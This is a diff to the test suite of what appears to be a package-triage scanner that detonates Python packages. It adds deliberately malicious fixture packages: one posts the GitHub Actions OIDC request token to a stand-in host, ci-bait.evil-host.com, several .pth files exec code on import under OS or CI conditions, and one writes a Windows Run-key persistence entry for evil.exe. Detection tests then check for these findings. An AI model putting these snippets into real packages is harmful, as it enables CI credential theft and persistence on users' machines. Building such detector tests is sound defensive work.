@@ -101,6 +101,50 @@ KINDS: dict[str, tuple[dict[str, str], str]] = {
         {"in_ci.py": acting("ci", "import os\nif os.getenv('GITHUB_ACTIONS'):\n    act()\n")},
         "import as ci, later",
     ),
+    "ci-bait": (
+        {
+            "in_ci_bait.py": acting(
+                "ci-bait",
+                "import os, urllib.request\nif os.getenv('GITHUB_ACTIONS') == 'true':\n"
+                "    act()\n    data = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN'].encode()\n"
+                "    urllib.request.urlopen('https://ci-bait.evil-host.com/', data)\n",
+            )
+        },
+        "import as ci, later",
+    ),
+    "pth-windows": (
+        {
+            "on_windows.pth": "import os, sys; os.name == 'nt' and"
+            f" exec({acting('pth-windows')!r})\n"
+        },
+        "import as windows",
+    ),
+    "pth-macos": (
+        {
+            "on_macos.pth": "import platform; platform.system() == 'Darwin' and"
+            f" exec({acting('pth-macos')!r})\n"
+        },
+        "import as macos",
+    ),
+    "pth-ci": (
+        {"in_ci.pth": f"import os; os.getenv('RUNNER_OS') and exec({acting('pth-ci')!r})\n"},
+        "import as ci, later",
+    ),
+    "registry": (
+        {
+            "on_registry.py": acting(
+                "registry",
+                "import sys\nif sys.platform == 'win32':\n    import winreg\n"
+                "    run = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+                "    with winreg.OpenKey(\n"
+                "        winreg.HKEY_CURRENT_USER, run, 0, winreg.KEY_SET_VALUE\n"
+                "    ) as key:\n"
+                "        winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, 'evil.exe')\n"
+                "    act()\n",
+            )
+        },
+        "import as windows",
+    ),
     "date": (
         {
             "later_on.py": acting(
@@ -167,6 +211,9 @@ CALM = {
     "IS_WINDOWS = os.name == 'nt'\n"
     "if IS_WINDOWS:\n    import ctypes, winreg\n    ctypes.windll.kernel32.GetStdHandle(-11)\n"
     "if platform.system() == 'Darwin':\n    FOLDER = '~/Library'\n"
+    "if IS_WINDOWS:\n"
+    "    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Calm') as key:\n"
+    "        winreg.SetValueEx(key, 'Theme', 0, winreg.REG_SZ, 'dark')\n"
     "IN_CI = bool(os.environ.get('CI'))\n"
     "YEAR = datetime.date.today().year\n"
     "lock = threading.Lock()\n",
@@ -256,6 +303,20 @@ def test_what_reads_the_key_is_high_in_each_phase(whole_report: Report) -> None:
     assert {"start", "import", "call", "execute"} <= read
 
 
+def test_what_only_a_ci_machine_has_is_seen_to_leave(whole_report: Report) -> None:
+    sent = [item for item in whole_report["findings"] if item["rule"] == "secret.sent"]
+    assert {(item["severity"], item["trigger"]) for item in sent} == {("high", "as ci, later")}
+    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN to https://ci-bait.evil-host.com" in sent[0]["title"]
+
+
+def test_what_starts_with_windows_is_persistence(whole_report: Report) -> None:
+    (item,) = [item for item in whole_report["findings"] if "registry" in item["title"]]
+    assert (item["severity"], item["rule"]) == ("high", "persistence.write")
+    assert item["trigger"] == "as windows"
+    assert "CurrentVersion\\Run\\Updater" in item["title"]
+    assert item["at"].endswith("on_registry.py:18")
+
+
 def test_a_condition_is_told_with_its_line(whole_report: Report) -> None:
     gates = {
         item["title"].partition("(")[2].partition(")")[0]: item
@@ -287,6 +348,9 @@ def test_the_harmless_relatives_are_clean(triage: Triage, index: Index) -> None:
     code, report, _ = triage("calm", "--mode", "detonate")
     assert findings(report, "high") == findings(report, "medium") == []
     assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "RECORD" not in notes
+    assert "other files" not in notes
     titles = {(phase["name"], phase["trigger"]) for phase in report["phases"]}
     assert {
         ("import", "calm"),
@@ -341,6 +405,38 @@ def test_a_folder_of_metadata_may_be_spelled_otherwise(triage: Triage, index: In
     index.add_file("odd-name", name, renamed.getvalue())
     _, report, _ = triage("odd-name", "--mode", "import")
     assert acts(report)["hyphen"]
+
+
+def test_a_release_has_two_faces(triage: Triage, index: Index) -> None:
+    """pip takes the wheel. What else there is is named, and `artifact` chooses it."""
+    info = "two_faced-1.0.dist-info"
+    record = f"two_faced.py,,\nabsent.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
+    index.add_wheel("two-faced", "1.0", {"two_faced.py": "", f"{info}/RECORD": record})
+    index.add_backend_sdist("two-faced", "1.0", acting("sdist"), {"two_faced.py": ""})
+    _, report, _ = triage("two-faced")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "not looked at (artifact chooses): two_faced-1.0.tar.gz" in notes
+    assert "RECORD lists files that are not there" in notes and "/absent.py" in notes
+    assert (acts(report), report["verdict"]) == ({}, "clean")
+    _, report, _ = triage("two-faced", "--mode", "detonate", "--artifact", "sdist")
+    assert ("install", None) in acts(report)["sdist"]
+    assert report["verdict"] == "high"
+    notes = " ".join(report["coverage"]["notes"])
+    assert "not looked at (artifact chooses): two_faced-1.0-py3-none-any.whl" in notes
+
+
+def test_what_failed_for_want_of_another_has_a_second_try(triage: Triage, index: Index) -> None:
+    """What cannot be had keeps nobody from what can."""
+    source = "try:\n    import other_lib\nexcept ImportError:\n    pass\nimport helper_lib\n"
+    index.add_wheel("asks", "1.0", {"asks.py": source})
+    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
+    index.add_wheel("other-lib", "2.0", {"other_lib.py": ""}, requires=["nobody-has-it"])
+    _, report, _ = triage("asks", "--mode", "import")
+    tries = [phase["outcome"] for phase in report["phases"] if phase["trigger"] == "asks"]
+    assert (tries, report["verdict"]) == (["failed", "ok"], "clean")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "installed later: helper-lib" in notes
+    assert "not there: other_lib" in notes
 
 
 def test_what_is_missed_is_installed_and_asked_again(triage: Triage, index: Index) -> None:
